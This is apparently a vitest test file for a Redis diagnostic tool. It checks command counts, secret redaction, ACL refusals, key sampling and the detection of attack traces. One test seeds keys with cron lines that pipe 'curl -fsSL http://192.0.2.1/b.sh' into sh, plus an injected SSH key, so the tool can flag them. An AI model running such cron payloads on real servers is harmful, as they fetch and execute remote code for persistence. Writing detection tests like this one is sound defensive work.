import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Server, startServer, World } from '../../../../../testbed/index.ts';
import { isBefore7, type Login, look, value } from './look.fixture.ts';

describe('a server', () => {
  let world: World;
  let server: Server;
  let login: Login;
  beforeAll(async () => {
    world = new World();
    login = { password: world.secret() };
    server = await startServer(world, { config: { requirepass: login.password ?? '', masterauth: world.secret() }, login });
    await server.call('EVAL', "for i = 1, 300 do redis.call('SET', 'user:' .. i, i, 'EX', 600) end for i = 1, 40 do redis.call('SET', 'feed:' .. i, i) end", '0');
    await server.call('CONFIG', 'RESETSTAT');
  });
  afterAll(() => world.end());

  it('is known in 22 commands, without a secret', async () => {
    const seen = await look(server.port, { login });
    expect(seen.states).toEqual({
      info: 'ok',
      config: 'ok',
      acl: 'ok',
      clients: 'ok',
      slowlog: 'ok',
      latency: 'ok',
      memory: 'ok',
      modules: 'ok',
      script: isBefore7 ? 'not-asked' : 'ok',
      rates: 'ok',
      keys: 'ok',
    }); // prettier-ignore
    expect(seen.commands).toBeLessThanOrEqual(22);
    for (const secret of world.secrets) expect(seen.text).not.toContain(secret);
    const { values, secrets } = value(seen.get('config'));
    expect(values).toMatchObject({ maxmemory: '0', appendonly: 'no', 'replica-read-only': 'yes' });
    expect(values).not.toHaveProperty('requirepass');
    expect(secrets).toMatchObject({ requirepass: { set: true, weak: null }, masterauth: { set: true }, 'tls-key-file-pass': { set: false } });
  });

  it('is told apart from what we do to it', async () => {
    const seen = await look(server.port, { login });
    expect(value(seen.get('rates')).delta).toMatchObject({
      total_commands_processed: 0,
      keyspace_hits: 0,
      keyspace_misses: 0,
      total_error_replies: 0,
      total_net_input_bytes: 0,
      total_net_output_bytes: 0,
    });
    expect(value(seen.get('clients')).total).toBe(0);
  });

  it('shows the work of others in its rates', async () => {
    const client = await server.client();
    const seen = await look(server.port, {
      login,
      during: () =>
        client.connection.pipeline(
          Array.from({ length: 50 }, () => ['GET', 'user:1']),
          { timeoutMs: 1000 },
        ),
    });
    client.close();
    expect(value(seen.get('rates'))).toMatchObject({ delta: { total_commands_processed: 50, keyspace_hits: 50 } });
    expect(value(seen.get('clients'))).toMatchObject({ total: 1, byAddress: [{ address: '127.0.0.1', count: 1 }], byUser: [{ user: 'default', count: 1 }] });
  });

  it('has its keys sampled', async () => {
    const keys = value((await look(server.port, { login })).get('keys'));
    expect(keys).toMatchObject({ total: 340, databases: [{ database: 0, keys: 340, expires: 300 }], attackKeys: [], lasting: [] });
    expect(keys.sampled).toBeGreaterThanOrEqual(90);
    expect(keys.biggest).toHaveLength(2);
    // Some expire and some do not, and no name says that they should: it is not worth a question for each.
    expect(keys.prefixes).toEqual([]);
  });

  it('is asked fewer than 30 commands, by its own count', async () => {
    const client = await server.client();
    const counted = async () => Number(await client.info('total_commands_processed'));
    const before = await counted();
    await look(server.port, { login });
    expect((await counted()) - before - 1).toBeLessThan(30);
    client.close();
  });

  it('has a cache looked at that never expires', async () => {
    await server.call('EVAL', "for i = 1, 400 do redis.call('SET', 'cache:' .. i, i) end", '0');
    const { prefixes } = value((await look(server.port, { login })).get('keys'));
    const cache = prefixes.find(({ prefix }) => prefix === 'cache:');
    expect(cache?.keys).toBeGreaterThan(10);
    expect(cache?.withoutExpiry).toBe(cache?.keys);
    expect(prefixes.find(({ prefix }) => prefix === 'user:')?.withoutExpiry).toBe(0);
    await server.call('EVAL', "for i = 1, 400 do redis.call('DEL', 'cache:' .. i) end", '0');
  });

  it('tells what an account may ask, and leaves no trace that looks like the application', async () => {
    const few = { username: 'few', password: world.secret() };
    await server.call('ACL', 'SETUSER', 'few', 'on', `>${few.password}`, '-@all', '+ping', '+info');
    const seen = await look(server.port, { login: few });
    expect(seen.states).toMatchObject({
      info: 'ok',
      rates: 'ok',
      config: 'refused',
      acl: 'refused',
      clients: 'refused',
      slowlog: 'refused',
      latency: 'refused',
      memory: 'refused',
      keys: 'refused',
    });
    const admin = await look(server.port, { login });
    expect(value(admin.get('acl').log)).toEqual([]);
    expect(value(admin.get('acl').users).map(({ name }) => name)).toContain('few');
  });

  it('asks another account what the first one may not', async () => {
    const few = { username: 'lowly', password: world.secret() };
    await server.call('ACL', 'SETUSER', 'lowly', 'on', `>${few.password}`, '~x:*', '-@all', '+ping');
    const seen = await look(server.port, { login: few, admin: login });
    expect(seen.states).toMatchObject({ info: 'ok', config: 'ok', clients: 'ok', keys: 'ok' });
    // The rules are those of the application's user, not of the one who asked.
    expect(value(seen.get('acl').self)).toMatchObject({ commands: expect.stringContaining('+ping'), keys: '~x:*' });
    for (const secret of world.secrets) expect(seen.text).not.toContain(secret);
  });

  it('tells refusals of the application', async () => {
    const app = { username: 'app', password: world.secret() };
    await server.call('ACL', 'SETUSER', 'app', 'on', `>${app.password}`, '~user:*', '+@read', '+@connection');
    const client = await server.client(app);
    await client.quietly('SET', 'user:1', 'x');
    client.close();
    const seen = (await look(server.port, { login })).get('acl');
    // A diagnosis that another test runs may find this server on the machine and try its own login here.
    expect(value(seen.log).filter(({ username }) => username === app.username)).toMatchObject([{ reason: 'command', object: 'set', username: 'app', count: 1 }]);
    expect(seen.categories.set).toContain('@write');
  });

  it('finds one outsized key among thousands, and traces of attacks', async () => {
    await server.call(
      'EVAL',
      "for i = 1, 4000 do redis.call('SET', 'small:' .. i, i) end redis.call('RPUSH', 'the-big-one', string.rep('x', 30000000), string.rep('x', 30000000))",
      '0',
    );
    await server.call('SLOWLOG', 'RESET');
    await server.call('SET', 'backup1', '\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.1/b.sh | sh\n\n');
    await server.call('SET', 'backup2', '\n\n*/3 * * * * curl -fsSL http://192.0.2.1/b.sh | sh\n\n');
    // A schedule and a public key as applications keep them.
    await server.call('MSET', 'job:nightly', '0 3 * * * rebuild --all', 'deploy-key', 'ssh-rsa AAAAB3NzaC1yc2E me@host', 'backup3', 'ok');
    await server.call('SET', 'crackit', '\n\nssh-rsa AAAAB3NzaC1yc2E me@host\n\n');
    const seen = await look(server.port, { login });
    const keys = value(seen.get('keys'));
    expect(keys.biggest[0]).toMatchObject({ key: 'the-big-one', type: 'list', bytes: expect.any(Number) });
    expect(keys.biggest[0]?.bytes).toBeGreaterThan(59_000_000);
    expect(keys.attackKeys.toSorted((a, b) => a.key.localeCompare(b.key))).toEqual([
      { key: 'backup1', sign: 'cron-line' },
      { key: 'backup2', sign: 'cron-line' },
      { key: 'crackit', sign: 'ssh-key' },
    ]);
    expect(seen.commands).toBeLessThanOrEqual(16 + 48);
  });

  it('keeps what was answered when the connection is lost', async () => {
    const seen = await look(server.port, { login, during: () => void server.call('CLIENT', 'KILL', 'TYPE', 'normal', 'SKIPME', 'yes') });
    expect(seen.states).toMatchObject({ info: 'ok', config: 'ok', rates: 'failed', keys: 'failed' });
  });
});
